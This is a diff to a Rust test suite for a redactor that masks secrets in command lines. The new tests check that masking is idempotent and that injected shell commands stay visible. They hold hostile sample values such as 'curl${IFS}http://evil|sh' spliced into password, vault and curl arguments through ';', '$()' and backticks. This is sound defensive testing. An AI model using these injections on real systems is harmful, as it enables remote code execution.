@@ -14,6 +14,8 @@ fn shown(executable: Option<&str>, arguments: &[&str]) -> Vec<String> {
     let (mut line, mut lengths) = (arguments.join(" "), lengths(arguments));
     redactor().command_line(executable, &mut line, &mut lengths);
     assert!(lengths_fit(&line, &lengths), "{line:?} {lengths:?}");
+    let once = line.clone();
+    assert!(!redactor().command_line(executable, &mut line, &mut lengths), "{once:?} {line:?}");
     let mut at = 0;
     let mut cut = Vec::new();
     for length in lengths {
@@ -55,6 +57,41 @@ fn a_secret_flag_hides_its_value_in_both_forms() {
     becomes(&["java", "-Ddb.password=x", "-jar"], &["java", "-Ddb.password=*", "-jar"]);
     becomes(&["x", "--token", "-aB3-xyzXYZ012"], &["x", "--token", "*"]);
     becomes(&["x", "--env=NPM_TOKEN=a,b"], &["x", "--env=NPM_TOKEN=*"]);
+}
+
+/// The arguments of a line of `cases.txt`.
+fn arguments(line: &str) -> Vec<String> {
+    // Put together here, so that no scanner of this repository takes them for real ones.
+    let line = line.replace("BODY", "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8");
+    let parts = line.split('`').enumerate();
+    let split = parts.flat_map(|(at, part)| match at % 2 {
+        0 => part.split_whitespace().map(str::to_owned).collect(),
+        _ => vec![part.to_owned()],
+    });
+    split.collect()
+}
+
+#[test]
+fn every_listed_command_line_loses_its_secrets_and_nothing_else() {
+    let (mut hidden, mut kept, mut wrong) = (0, 0, Vec::new());
+    for case in include_str!("cases.txt").lines().filter(|line| !line.is_empty() && !line.starts_with('#')) {
+        let marked = arguments(case);
+        let given: Vec<String> = marked.iter().map(|argument| argument.replace(['«', '»'], "")).collect();
+        let given: Vec<&str> = given.iter().map(String::as_str).collect();
+        let mark = |argument: &String| {
+            let mut parts = argument.split('«');
+            let first = parts.next().unwrap_or_default().to_owned();
+            parts.fold(first, |text, part| text + "*" + part.split_once('»').unwrap().1)
+        };
+        let expected: Vec<String> = marked.iter().map(mark).collect();
+        let shown = shown(None, &given);
+        if shown != expected {
+            wrong.push(format!("{case}\n    {shown:?}"));
+        }
+        *(if case.contains('«') { &mut hidden } else { &mut kept }) += 1;
+    }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+    assert!(hidden >= 100 && kept >= 100, "{hidden} {kept}");
 }
 
 #[test]
@@ -172,6 +209,25 @@ fn a_command_that_is_dressed_up_as_a_secret_stays_visible() {
         "a:1;EVIL@host.example",
         "IDENTIFIED BY '; EVIL",
         ": IDENTIFIED BY x; EVIL",
+        "echo x; EVIL | passwd --stdin",
+        "echo x&EVIL|chpasswd",
+        "echo $(EVIL) | chpasswd",
+        "echo \"`EVIL`\" | passwd --stdin",
+        "id; EVIL | sudo -S id",
+        "echo 'x'; EVIL; echo 'y' | chpasswd",
+        "htpasswd -b f u x; EVIL",
+        "htpasswd -b f u `EVIL`",
+        "smbclient //h/s x; EVIL",
+        "vault login; EVIL",
+        "bw unlock $(EVIL)",
+        "wpa_passphrase s x|EVIL",
+        "curl -b a=b; EVIL",
+        "curl -b 'a=$(EVIL)'",
+        "mount -o user=u%x; EVIL",
+        r#"{"tokens":["x"]}; EVIL"#,
+        r#"{"tokens":["$(EVIL)"]}"#,
+        "Authorization:\\ Bearer\\ x; EVIL",
+        "password=x&EVIL",
     ] {
         for line in [evil, "curl${IFS}http://evil|sh", "/tmp/evil"] {
             let script = script.replace("EVIL", line);
@@ -315,9 +371,9 @@ proptest! {
         arguments in proptest::collection::vec(
             prop_oneof![
                 ".{0,30}",
-                "(-{0,2}(password|token|pin|auth|key|bearer|mysql|curl|login)[=: '\"]{0,2}){1,3}[-a-zA-Z0-9$'\"@:/ ]{0,12}",
+                "(-{0,2}(password|token|pin|auth|key|bearer|mysql|curl|login|vault|htpasswd -b|chpasswd|smbclient //|mount|cookie)[=: '\"]{0,2}){1,3}[-a-zA-Z0-9$'\"@:/ ]{0,12}",
                 "(https?|x)://[a-z:/@'\\[\\] -]{0,20}",
-                "(-p|-u|-c|eyJ|AKIA|sk-|\\[redacted:00000000\\])[A-Z0-9a-z@: .'-]{0,30}",
+                "(-p|-u|-c|-b|eyJ|AKIA|sk-|echo |tokens\":\\[\"|\\[redacted:00000000\\])[A-Z0-9a-z@: .'-]{0,30}",
             ],
             1..6,
         ),
@@ -340,6 +396,7 @@ proptest! {
             prop_oneof![
                 "[-a:;,?&=@ '\"\\\\<>{}$(`|\n]{1,3}",
                 "(token|--password|auth|cookie|Authorization|mysql|curl|IDENTIFIED BY|PASSWORD)[=:> '\"]{0,3}",
+                "(echo |vault login |bw unlock |smbclient //|chpasswd|sudo -S |htpasswd -b |--cookie a=|mount -o user=%|\"tokens\":\\[\")",
                 "(x://a:|-p|-u|-c|-----BEGIN PRIVATE KEY-----|-----END PRIVATE KEY-----|ghp_|eyJ)",
             ],
             0..12,
